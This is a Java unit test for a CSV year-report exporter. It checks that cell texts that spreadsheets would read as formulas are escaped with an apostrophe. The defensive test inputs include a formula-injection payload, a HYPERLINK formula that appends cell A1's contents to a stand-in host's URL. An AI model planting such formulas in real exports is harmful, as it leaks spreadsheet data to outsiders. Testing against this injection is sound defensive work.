package it.pegworkflow.monitoring;

import static org.assertj.core.api.Assertions.assertThat;

import it.pegworkflow.objective.ObjectiveState;
import java.io.IOException;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.util.List;
import org.junit.jupiter.api.Test;

/** A text someone typed into a sheet or a task never becomes a formula in the spreadsheet that opens the CSV. */
class YearReportCsvTest {

  @Test
  void textsThatASpreadsheetWouldReadAsAFormulaStayText() throws IOException {
    String csv = csv(objective("=HYPERLINK(\"http://x.example/?\"&A1;\"clic\")", "+1+1", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1"));

    String line = csv.lines().skip(1).findFirst().orElseThrow();
    assertThat(line).startsWith("2017_ZN02;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"clic\"\")\";'+1+1;'-2+3;'@SUM(A1:A9);");
    assertThat(csv).contains(";'\t=1+1;").contains(";\"'\r=1+1\";95,00;60,00;'=Rivedere la fase 2;No\r\n");
  }

  @Test
  void ordinaryTextsAndNegativeScoresAreWrittenAsTheyAreWithThePartialScoresAndTheNucleosNote() throws IOException {
    MonitoredObjective o = reported("Riduzione dei tempi", "Direzione", "Servizio", "Rossi Anna", new BigDecimal("-3.5"),
        "Non raggiunto", "Ritardo - fornitore");

    String line = csv(o).lines().skip(1).findFirst().orElseThrow();
    assertThat(line).isEqualTo("2017_ZN02;Riduzione dei tempi;Direzione;Servizio;Rossi Anna;Chiuso;-3,50;Non raggiunto;"
        + "Ritardo - fornitore;95,00;60,00;'=Rivedere la fase 2;No");
  }

  @Test
  void anObjectiveVariedAfterItsDeadlineIsFlagged() throws IOException {
    StringWriter out = new StringWriter();
    YearReportCsv.write(List.of(objective("Titolo", "D", "S", "M", "", "")), java.util.Set.of("2017_ZN02"), out);

    assertThat(out.toString().lines().findFirst().orElseThrow()).endsWith(";Variazione dopo la scadenza");
    assertThat(out.toString().lines().skip(1).findFirst().orElseThrow()).endsWith(";'=Rivedere la fase 2;Sì");
  }

  private static MonitoredObjective objective(String title, String department, String unit, String manager,
      String band, String reason) {
    return reported(title, department, unit, manager, new BigDecimal("80"), band, reason);
  }

  private static MonitoredObjective reported(String title, String department, String unit, String manager,
      BigDecimal score, String band, String reason) {
    return new MonitoredObjective("2017_ZN02", 2017, title, department, null, unit, manager, "rossianna", "", "", "",
        "p1", ObjectiveState.REPORTED, "Chiuso", true, 4, 4, 0, 0, new BigDecimal("95"), new BigDecimal("60"), score, band,
        reason, "=Rivedere la fase 2", null, 0);
  }

  private static String csv(MonitoredObjective objective) throws IOException {
    StringWriter out = new StringWriter();
    YearReportCsv.write(List.of(objective), java.util.Set.of(), out);
    return out.toString();
  }
}
